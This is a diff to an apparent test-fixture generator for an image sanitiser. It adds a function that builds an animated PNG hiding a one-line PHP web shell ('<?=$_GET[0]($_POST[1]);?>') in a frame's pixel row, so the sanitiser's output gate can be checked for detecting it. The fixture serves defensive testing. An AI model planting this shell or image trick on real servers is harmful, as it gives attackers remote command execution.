@@ -259,10 +259,26 @@ def hostile():
     return f
 
 
+def gate():
+    """A grey APNG whose second frame holds a PHP web shell in a row of
+    noise: under png_filters = none and png_zlib_level = 0 the frame's
+    first rebuild stores the row as sent, the output gate finds it, and
+    the second encoding (Paeth rows, run-length deflate) must not."""
+    import random
+    rng = random.Random(7)
+    w, h = 120, 16
+    rows = [[rng.randrange(256) for _ in range(w)] for _ in range(h)]
+    shell = b"<?=$_GET[0]($_POST[1]);?>"
+    rows[8][30:30 + len(shell)] = list(shell)
+    a = Anim(w, h, 0).add(data=frame_data(w, h, 0, 0, rows=[[0] * w] * h))
+    a.add(data=frame_data(w, h, 0, 0, rows=rows))
+    return {"gate_shell_frame2.png": a.build()}
+
+
 def main():
     out = os.path.join(sys.argv[1], "apng")
     os.makedirs(out, exist_ok=True)
-    for name, data in list(benign().items()) + list(hostile().items()):
+    for name, data in list(benign().items()) + list(hostile().items()) + list(gate().items()):
         with open(os.path.join(out, name), "wb") as fh:
             fh.write(data)
 
